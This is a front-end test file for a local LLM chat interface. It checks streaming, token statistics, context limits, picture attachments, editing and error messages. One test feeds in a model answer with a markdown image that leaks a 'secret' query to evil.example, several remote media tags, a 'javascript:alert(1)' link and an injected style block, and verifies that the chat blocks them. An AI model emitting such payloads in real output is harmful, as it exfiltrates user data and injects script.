/** The chat as a person uses it, over the real RPC and a core in memory. */
import { Tooltip } from '@base-ui/react/tooltip';
import { act, cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { I18nextProvider } from 'react-i18next';
import { afterEach, expect, test, vi } from 'vitest';
import { useStore } from 'zustand/react';
import type { Ledger as Sheet } from '../../../shared/contract/control.ts';
import { Fault } from '../../../shared/result.ts';
import type { ImagePart, Turn } from '../../../shared/schemas/chat.ts';
import type { EngineState, OtherModel } from '../../../shared/schemas/engine.ts';
import { defaultLoadSettings } from '../../../shared/schemas/memory.ts';
import { createI18n } from '../../i18n.ts';
import { createStores, type Stores, StoresContext, useStores } from '../../stores/index.ts';
import '../../testing/intersectionObserver.ts';
import { Toasts, undoLast } from '../../ui/toasts.tsx';
import { ChatView } from './ChatView.tsx';
import { createDraftsStore, newChat } from './drafts.ts';
import { pictures } from './images/testPictures.ts';
import { answerTurn, chatOf, type TestCore, testCore, userTurn } from './testCore.ts';

// KaTeX looks for a doctype, which the test's document lacks, when it is imported.
vi.hoisted(() => Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' }));

const ready = (more: Partial<Extract<EngineState, { status: 'ready' }>['model']> = {}): EngineState => ({
  status: 'ready',
  modelId: 'm',
  asked: defaultLoadSettings,
  answering: false,
  model: { backend: 'llama-server', settings: defaultLoadSettings, contextSize: 4096, layers: { total: 5, onGpu: 0 }, vision: true, thinking: false, ...more },
});

let stores: Stores;
function Route() {
  return <ChatView chatId={useStore(useStores().ui, (state) => state.id)} />;
}
/** The view on `core`, with a model that is `state`. */
function show(core: TestCore, id?: string, state: EngineState = ready()) {
  window.location.hash = id ? `#/chat/${id}` : '#/chat';
  stores = createStores(core.client);
  stores.engine.setState({ state });
  const draw = async (picture: Blob) => {
    if (picture.size < 200) throw new DOMException('The source image could not be decoded');
    return { original: { width: 1920, height: 1080 }, sent: { width: 1344, height: 756 }, bytes: new Uint8Array([1, 2, 3]) };
  };
  stores = { ...stores, drafts: createDraftsStore(core.client, { draw }) };
  render(
    <I18nextProvider i18n={createI18n('en')}>
      <StoresContext value={stores}>
        <Tooltip.Provider>
          <Route />
          <Toasts />
        </Tooltip.Provider>
      </StoresContext>
    </I18nextProvider>,
  );
  return { user: userEvent.setup(), field: () => screen.getByRole<HTMLTextAreaElement>('textbox', { name: 'Message' }) };
}
const file = (name: string) => new File([pictures.get(name)!], name);
const paste = (files: File[]) => fireEvent.paste(window, { clipboardData: { types: ['Files'], files } });
const stats: NonNullable<Turn['stats']> = {
  stopReason: 'end',
  promptTokens: 20,
  cachedTokens: 0,
  tokens: 512,
  firstTokenMs: 350,
  tokensPerSecond: 41.3,
  promptTokensPerSecond: 200,
};
const question = userTurn('q', [{ type: 'text', text: 'Count *to* ten' }]);

afterEach(cleanup);

test('a message goes to a new chat, its answer streams, and the stats are told', async () => {
  const core = testCore();
  const { user, field } = show(core);
  await user.type(field(), 'Hello{Shift>}{Enter}{/Shift}there{Enter}');
  const answer = await screen.findByRole('article', { name: 'Answer' });
  expect(core.calls.find((call) => call.method === 'chat.send')?.input).toEqual({ parts: [{ type: 'text', text: 'Hello\nthere' }] });
  expect(field().value).toBe('');
  expect(window.location.hash).toBe('#/chat/new');
  act(() => core.prompt('a1', 0, 1204));
  await within(answer).findByText('Reading 1,204 tokens…');
  act(() => core.say('a1', 'Hi **you**'));
  expect((await within(answer).findByText('you')).closest('[data-streamdown="strong"]')).toBeTruthy();
  act(() => core.end('a1', { stats }));
  await within(answer).findByText('41.3 tok/s · 512 tokens · 0.35 s to first · finished');
});

test('a new chat takes along what was said for it before its first message', async () => {
  const core = testCore();
  const { user, field } = show(core);
  act(() => stores.drafts.getState().change(newChat, { set: { seed: 7 } }));
  await user.type(field(), 'Hello{Enter}');
  await waitFor(() =>
    expect(core.calls.find(({ method }) => method === 'chat.send')?.input).toEqual({ parts: [{ type: 'text', text: 'Hello' }], settings: { seed: 7 } }),
  );
  await waitFor(() => expect(stores.drafts.getState().drafts[newChat]).toBeUndefined());
});

test('what was left out of a long conversation is said above the answer', async () => {
  const core = testCore([chatOf([question, answerTurn('a', 'Ten', { dropped: { messages: 6, tokens: 2310 } })])]);
  show(core, 'c1');
  const answer = await screen.findByRole('article', { name: 'Answer' });
  within(answer).getByText('6 earlier messages, 2,310 tokens, were left out: the conversation is longer than the context.');
});

test('a full context offers to leave out the oldest in this chat, which can be taken back, or to load with more', async () => {
  const full = { code: 'engine.contextFull' as const, message: 'full', data: { used: 5000, context: 4096 } };
  const core = testCore([chatOf([question, answerTurn('a', '', { status: 'failed', error: full, modelId: 'm' })])]);
  const { user } = show(core, 'c1');
  const alert = await screen.findByRole('alert');
  expect(alert.textContent).toMatch(/5,000 of 4,096/);
  await user.click(within(alert).getByRole('button', { name: 'Load with a longer context' }));
  expect(stores.ui.getState().loadPanel).toBe('m');
  await user.click(within(alert).getByRole('button', { name: 'Leave out the oldest' }));
  await screen.findByText(/In this chat, the oldest messages are left out/);
  await waitFor(() => expect(core.calls.map(({ method }) => method)).toEqual(['chat.settings', 'chat.retry']));
  expect(core.chats.get('c1')?.settings).toEqual({ overflow: 'dropOldest' });
  expect(undoLast()).toBe(true);
  await waitFor(() => expect(core.chats.get('c1')?.settings).toEqual({}));
});

test('the ledger is counted when an answer ends and when it is opened, never while one is written', async () => {
  const sheet = { context: 4096, total: 832, cached: 800, system: 20, images: 64, thinking: 0, tools: 0, messages: [] as Sheet['messages'] };
  sheet.messages = [
    { role: 'system', tokens: 20, cached: true },
    { role: 'user', tokens: 780, cached: true },
    { role: 'assistant', tokens: 32, cached: false },
  ];
  const core = testCore([chatOf([question, answerTurn('a', 'Ten', { stats })])], { 'chat.ledger': () => sheet });
  const { user, field } = show(core, 'c1');
  const asked = () => core.calls.filter(({ method }) => method === 'chat.ledger').length;
  // What the engine said of the last answer, until somebody wants to know.
  await user.click(await screen.findByRole('button', { name: '~532 of 4,096 tokens' }));
  const account = await screen.findByRole('dialog', { name: 'What fills the context' });
  await within(account).findByText('800 of them are known to the model already.');
  expect(
    within(account)
      .getAllByRole('listitem')
      .map((item) => item.textContent),
  ).toEqual(['1Youknown780', '2Answerto be read32']);
  expect([...account.querySelectorAll('dl > div')].map((row) => row.textContent)).toEqual(['System prompt20', 'Messages748', 'Pictures64', 'Free3,264']);
  await user.keyboard('{Escape}');
  await user.type(field(), 'And?{Enter}');
  await waitFor(() => expect(screen.getAllByRole('article', { name: 'Answer' })).toHaveLength(2));
  await user.click(screen.getByRole('button', { name: '832 of 4,096 tokens' }));
  await user.keyboard('{Escape}');
  expect(asked()).toBe(1);
  sheet.total = 900;
  act(() => core.end('a1', { stats }));
  await screen.findByRole('button', { name: '900 of 4,096 tokens' });
  expect(asked()).toBe(2);
  sheet.total = 4200;
  await user.click(screen.getByRole('button', { name: '900 of 4,096 tokens' }));
  await screen.findByText('The next message no longer fits and is refused.');
});

test('the stats tell what of the question was known, and how well was guessed ahead', async () => {
  const known = { ...stats, promptTokens: 3120, cachedTokens: 2808, draft: { guessed: 120, accepted: 84 } };
  const core = testCore([chatOf([question, answerTurn('a', 'Ten', { stats: known })])]);
  const { user } = show(core, 'c1');
  await user.hover(await screen.findByText(/41.3 tok/));
  await screen.findByText(/ to first · 70% of guesses right · /);
  const words = '312 of 3,120 tokens read, the rest was known · reading at 200 tok/s · 84 of 120 tokens guessed ahead were right (70%)';
  expect((await screen.findAllByText(words)).length).toBeGreaterThan(0);
});

test('a refused send keeps the text and the pictures, and says why', async () => {
  const core = testCore();
  const { user, field } = show(core);
  paste([file('01-red-circle.png')]);
  await screen.findByRole('listitem', { name: 'Picture 1: 01-red-circle.png' });
  core.fail('chat.send', new Fault('engine.contextFull', 'full', { used: 5000, context: 4096 }));
  await user.type(field(), 'What is this?{Enter}');
  expect((await screen.findByRole('alert')).textContent).toMatch(/5,000 of 4,096/);
  expect(field().value).toBe('What is this?');
  expect(screen.getByRole('listitem', { name: 'Picture 1: 01-red-circle.png' })).toBeTruthy();
  await user.type(field(), '{Enter}');
  await screen.findByRole('article', { name: 'Answer' });
  expect(core.calls.filter((call) => call.method === 'chat.send').at(-1)?.input).toMatchObject({
    parts: [{ type: 'image', name: '01-red-circle.png' }, { type: 'text' }],
  });
});

test('pictures keep the order in which they were given, can be moved and removed, and bad ones are named', async () => {
  const core = testCore();
  const { user } = show(core);
  paste([file('02-blue-square.png'), new File(['Dear diary'], 'notes.txt'), file('18-tiny-48x48-red-square.png'), file('01-red-circle.png')]);
  const names = () => screen.getAllByRole('listitem').map((item) => item.getAttribute('aria-label'));
  await waitFor(() => expect(names()).toEqual(['Picture 1: 02-blue-square.png', 'Picture 2: 01-red-circle.png']));
  const said = screen.getAllByRole('alert').map((alert) => alert.textContent);
  expect(said[0]).toMatch(/^notes.txt is not a picture/);
  expect(said[1]).toMatch(/^18-tiny-48x48-red-square.png is damaged/);
  await user.click(screen.getByRole('button', { name: 'Move 01-red-circle.png before the one before it' }));
  expect(names()).toEqual(['Picture 1: 01-red-circle.png', 'Picture 2: 02-blue-square.png']);
  await user.click(screen.getByRole('button', { name: 'Remove 01-red-circle.png' }));
  expect(names()).toEqual(['Picture 1: 02-blue-square.png']);
});

test('the one button stops, Escape stops only from an empty composer, and the text stays', async () => {
  const core = testCore([chatOf([question, answerTurn('a', 'One, two', { status: 'running' })])]);
  const { user, field } = show(core, 'c1');
  await screen.findByRole('button', { name: 'Stop' });
  expect(screen.queryByRole('button', { name: 'Send' })).toBeNull();
  await user.type(field(), 'draft{Escape}');
  expect(core.calls).toEqual([]);
  await user.clear(field());
  await user.type(field(), '{Escape}');
  await screen.findByRole('button', { name: 'Send' });
  expect(core.calls).toEqual([{ method: 'chat.stop', input: { turnId: 'a' } }]);
  const answer = screen.getByRole('article', { name: 'Answer' });
  expect(answer.textContent).toContain('One, two');
  expect(answer.textContent).toContain('stopped by you');
});

test('while an answer is written nothing else can be asked or changed, and each button says why', async () => {
  const cut = answerTurn('a', 'One', { status: 'interrupted', modelId: 'm' });
  const core = testCore([chatOf([question, cut, userTurn('q2', [{ type: 'text', text: 'And?' }]), answerTurn('a2', '', { status: 'running' })])]);
  const { user } = show(core, 'c1', { ...ready(), others: [{ ...(ready() as OtherModel), modelId: 'other' }] } as EngineState);
  const why = 'An answer is being written. Wait for it, or stop it first.';
  await screen.findAllByRole('article', { name: 'Answer' });
  const kept = () => screen.getAllByRole('button', { name: /^(Retry|Delete|Edit|Answer again with another model)$/ });
  expect(kept()).toHaveLength(8);
  for (const button of kept()) {
    expect([button.getAttribute('aria-disabled'), button.getAttribute('aria-description'), button.tabIndex]).toEqual(['true', why, 0]);
    await user.click(button);
  }
  expect(screen.queryByRole('menu')).toBeNull();
  expect(screen.queryByRole('textbox', { name: 'Edit message' })).toBeNull();
  act(() => kept()[0]!.focus());
  expect((await screen.findAllByText(`Edit\n${why}`, { normalizer: (text) => text })).length).toBeGreaterThan(0);
  expect(core.calls).toEqual([]);
  act(() => core.end('a2'));
  await waitFor(() => expect(kept().map((button) => button.getAttribute('aria-disabled'))).toEqual(kept().map(() => null)));
  expect(document.activeElement).toBe(kept()[0]);
  await user.click(kept()[0]!);
  await screen.findByRole('textbox', { name: 'Edit message' });
});

test('the focus stays in the conversation when the button that had it goes', async () => {
  const core = testCore([chatOf([question, answerTurn('a1', 'One', { siblings: ['a1', 'a2', 'a3'] })])]);
  const { user } = show(core, 'c1');
  const press = async (name: string) => {
    const button = await screen.findByRole('button', { name });
    act(() => button.focus());
    await user.keyboard('{Enter}');
  };
  await press('Next alternative');
  core.show(chatOf([question, answerTurn('a2', 'Two', { siblings: ['a1', 'a2', 'a3'] })]));
  await screen.findByText('Two');
  await waitFor(() => expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Next alternative' })));
  await press('Edit');
  await user.type(await screen.findByRole('textbox', { name: 'Edit message' }), '{Escape}');
  await waitFor(() => expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Edit' })));
  act(() =>
    within(screen.getByRole('article', { name: 'Answer' }))
      .getByRole('button', { name: 'Retry' })
      .focus(),
  );
  core.show(chatOf([question, answerTurn('a4', '', { status: 'running' })]));
  await waitFor(() => expect(document.activeElement).toBe(screen.getByRole('region', { name: 'Conversation' })));
});

test('a deleted message can be taken back', async () => {
  const core = testCore([chatOf([question, answerTurn('a', 'One')])]);
  const { user } = show(core, 'c1');
  const answer = await screen.findByRole('article', { name: 'Answer' });
  await user.click(within(answer).getByRole('button', { name: 'Delete' }));
  await screen.findByText('Message deleted');
  expect(undoLast()).toBe(true);
  await waitFor(() => expect(core.calls.map((call) => call.method)).toEqual(['chat.deleteTurn', 'chat.restoreTurn']));
});

test('the pager goes from one alternative to the next', async () => {
  const core = testCore([chatOf([question, answerTurn('a2', 'Two', { siblings: ['a1', 'a2', 'a3'] })])]);
  const { user } = show(core, 'c1');
  const pager = await screen.findByRole('group', { name: 'Alternatives' });
  expect(pager.textContent).toContain('2/3');
  await user.click(within(pager).getByRole('button', { name: 'Previous alternative' }));
  await user.click(within(pager).getByRole('button', { name: 'Next alternative' }));
  expect(core.calls).toEqual(['a1', 'a3'].map((turnId) => ({ method: 'chat.choose', input: { turnId } })));
});

test('an answer that runs on another path than the one shown is stopped with the same button', async () => {
  const chat = { ...chatOf([question, answerTurn('a1', 'One', { siblings: ['a1', 'a2'] })]), running: true, answering: 'a2' };
  const core = testCore([chat]);
  const { user } = show(core, 'c1');
  await user.click(await screen.findByRole('button', { name: 'Stop' }));
  expect(core.calls).toEqual([{ method: 'chat.stop', input: { turnId: 'a2' } }]);
});

test('a question is shown as it was typed and edited in place with its pictures', async () => {
  const picture: ImagePart = {
    type: 'image',
    original: 'a'.repeat(64),
    sent: 'b'.repeat(64),
    name: 'cat.png',
    width: 9,
    height: 9,
    sentWidth: 9,
    sentHeight: 9,
  };
  const core = testCore([chatOf([{ ...question, parts: [picture, ...question.parts] }, answerTurn('a', 'One')])]);
  const { user } = show(core, 'c1');
  await screen.findByText('Count *to* ten');
  await user.click(within(screen.getByRole('article', { name: 'You' })).getByRole('button', { name: 'Edit' }));
  const editor = screen.getByRole('textbox', { name: 'Edit message' });
  await user.type(editor, '!{Enter}');
  await screen.findByText('Count *to* ten');
  expect(core.calls).toEqual([{ method: 'chat.edit', input: { turnId: 'q', parts: [picture, { type: 'text', text: 'Count *to* ten!' }] } }]);
});

test('nothing in an answer is fetched, and links open outside', async () => {
  const text = [
    '![a cat](https://evil.example/cat.png?q=secret)',
    '<img src="https://evil.example/x.png"> <picture><source srcset="https://evil.example/y.png"></picture> <video src="https://evil.example/z.mp4"></video>',
    '[site](https://example.com/a) [local](/blobs/x) [bad](javascript:alert(1))',
    '<style>body{display:none}</style><a href="https://example.com/b" style="position:fixed" target="_self">raw</a>',
  ].join('\n\n');
  show(testCore([chatOf([question, answerTurn('a', text)])]), 'c1');
  const answer = await screen.findByRole('article', { name: 'Answer' });
  await within(answer).findByText(/Picture not loaded \(a cat\)/);
  const fetched = [...answer.querySelectorAll('[src], [srcset], [poster], [data], iframe, style, link')].map((element) => element.outerHTML);
  expect(fetched).toEqual([]);
  const links = [...answer.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.target, link.rel, link.getAttribute('style')]);
  expect(links).toEqual(['https://example.com/a', 'https://example.com/b'].map((href) => [href, '_blank', 'noopener noreferrer', null]));
});

test('formulas and tables are drawn; styles that KaTeX would put into markup are set by property', async () => {
  const text = 'So $x^2$, $\\vec{v} = \\boxed{42}$, \\(\\frac{\\) and\n\n$$\n\\overline{ab}\n$$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n';
  show(testCore([chatOf([question, answerTurn('a', text)])]), 'c1');
  const answer = await screen.findByRole('article', { name: 'Answer' });
  await waitFor(() => expect(answer.querySelectorAll('.katex').length).toBe(3));
  expect(answer.querySelectorAll('.katex-display').length).toBe(1);
  expect(answer.textContent).toContain('\\frac{');
  expect(
    within(answer)
      .getAllByRole('cell')
      .map((cell) => cell.textContent),
  ).toEqual(['1', '2']);
  const styled = [...answer.querySelectorAll<HTMLElement>('[data-style]')].map((element) => [element.tagName.toLowerCase(), element.style.cssText !== '']);
  expect(styled).toEqual([['svg', true]]);
});

test.each([
  ['interrupted', {}, /cut off because the engine or the app stopped/],
  ['failed', { error: { code: 'engine.busy', message: '' } }, /still answering/],
] as const)('an answer that was %s says so and can be asked again', async (status, more, words) => {
  const core = testCore([chatOf([question, answerTurn('a', 'One', { status, ...more })])]);
  const { user } = show(core, 'c1');
  const alert = await screen.findByRole('alert');
  expect(alert.textContent).toMatch(words);
  await user.click(within(alert).getByRole('button', { name: 'Retry' }));
  expect(core.calls).toEqual([{ method: 'chat.retry', input: { turnId: 'a' } }]);
});

test('without a model it says so and offers the newest of the library', async () => {
  const { user, field } = show(testCore(), undefined, { status: 'idle' });
  const source = { app: 'atelier', folder: '/models', reference: false } as const;
  const model = { repo: 'a/b', label: 'Q4_K_M', files: [], size: 1, source, architecture: 'x', contextLength: 1, vision: true, thinking: true, verified: true };
  act(() =>
    stores.library.setState({
      models: [
        { ...model, id: 'old', name: 'Old', addedAt: '2026-01-01T00:00:00Z' },
        { ...model, id: 'new', name: 'New', addedAt: '2026-02-01T00:00:00Z' },
        { ...model, id: 'bad', name: 'Bad', addedAt: '2026-03-01T00:00:00Z', problem: 'truncated' },
      ],
    }),
  );
  await screen.findByText('No model is loaded.');
  expect(screen.getByRole('button', { name: 'Load New Q4_K_M' })).toBeTruthy();
  await user.type(field(), 'Hello{Enter}');
  expect(screen.getByRole('button', { name: 'Send' })).toHaveProperty('disabled', true);
  screen.getByText('Load a model first, then send.');
  act(() => stores.engine.setState({ begins: 'new' }));
  expect(screen.getByRole('button', { name: 'Send' })).toHaveProperty('disabled', false);
  act(() => stores.engine.setState({ begins: undefined }));
  await user.click(screen.getByRole('button', { name: 'Find a model' }));
  expect(stores.ui.getState().view).toBe('discover');
});

test('a message can be sent while its model is not loaded, unless it keeps crashing', async () => {
  const core = testCore();
  const { user, field } = show(core, undefined, { status: 'idle', last: 'm' });
  const source = { app: 'atelier', folder: '/models', reference: false } as const;
  const model = { repo: 'a/b', label: 'Q4_K_M', files: [], size: 1, source, architecture: 'x', contextLength: 1, vision: true, thinking: true, verified: true };
  act(() => stores.library.setState({ models: [{ ...model, id: 'm', name: 'Mine', addedAt: '2026-01-01T00:00:00Z' }] }));
  await screen.findByText('Mine Q4_K_M is not loaded; your message loads it.');
  await user.type(field(), 'Hello');
  const error = { code: 'engine.keepsCrashing', message: '' } as const;
  act(() => stores.engine.setState({ state: { status: 'failed', modelId: 'm', error } }));
  expect((await screen.findByRole('alert')).textContent).toMatch(/^The engine crashed three times/);
  expect(screen.getByRole('button', { name: 'Send' })).toHaveProperty('disabled', true);
  act(() => stores.engine.setState({ state: { status: 'loading', modelId: 'm', asked: defaultLoadSettings, stage: 'loading', progress: 0.5 } }));
  await user.click(screen.getByRole('button', { name: 'Send' }));
  await waitFor(() => expect(core.calls.some(({ method }) => method === 'chat.send')).toBe(true));
});

test('an engine that stopped is not called a failed load, and can be loaded again', async () => {
  const core = testCore();
  show(core, undefined, { status: 'failed', modelId: 'm', error: { code: 'engine.crashed', message: '', data: { reason: 'SIGKILL' } } });
  expect((await screen.findByRole('alert')).textContent).toMatch(/^The engine stopped unexpectedly/);
  expect(screen.getByRole('button', { name: 'Load the model' })).toBeTruthy();
  cleanup();
  show(core, undefined, { status: 'failed', modelId: 'm', error: { code: 'engine.loadFailed', message: '', data: { reason: 'no' } } });
  expect((await screen.findByRole('alert')).textContent).toMatch(/^the model could not be loaded/);
  cleanup();
  show(core, undefined, { status: 'failed', modelId: 'm', error: { code: 'engine.loadFailed', message: '', data: { reason: 'SIGSEGV', cause: 'noMemory' } } });
  expect((await screen.findByRole('alert')).textContent).toMatch(
    /^the model could not be loaded. The engine ran out of memory while it loaded the model. Choose a smaller context/,
  );
});

test('a model that cannot see says why where a picture would be attached', async () => {
  const { user } = show(testCore(), undefined, { ...ready({ vision: false }), visionProblem: 'cmake' } as EngineState);
  expect((await screen.findByRole('status')).textContent).toMatch(/Install CMake/);
  cleanup();
  show(testCore(), undefined, { ...ready({ vision: false }), visionProblem: 'noProjector' } as EngineState);
  expect(screen.queryByRole('status')).toBeNull();
  await user.click(screen.getByRole('button', { name: 'Add pictures' }));
  expect((await screen.findByRole('status')).textContent).toMatch(/no vision file/);
  expect(screen.queryAllByRole('listitem')).toEqual([]);
});

test('thinking is folded to one line, and asked for only where the model has it', async () => {
  const core = testCore([chatOf([question, answerTurn('a', 'One', { thinking: 'Let me see', stats: { ...stats, thinkingMs: 4200 } })])]);
  const { user } = show(core, 'c1', ready({ thinking: true }));
  expect((await screen.findByText('Thought for 4.2 s')).closest('details')?.open).toBe(false);
  await user.click(screen.getByRole('switch', { name: 'Thinking' }));
  await waitFor(() => expect(core.chats.get('c1')?.settings).toEqual({ thinking: true }));
  cleanup();
  show(core, 'c1', ready({ thinking: false }));
  expect(screen.queryByRole('switch', { name: 'Thinking' })).toBeNull();
});

test('a draft stays with its chat', async () => {
  const { user, field } = show(testCore([chatOf([question, answerTurn('a', 'One')])]), 'c1');
  await user.type(field(), 'half a thought');
  act(() => stores.ui.getState().go('chat'));
  expect(field().value).toBe('');
  act(() => stores.ui.getState().go('chat', 'c1'));
  expect(field().value).toBe('half a thought');
});
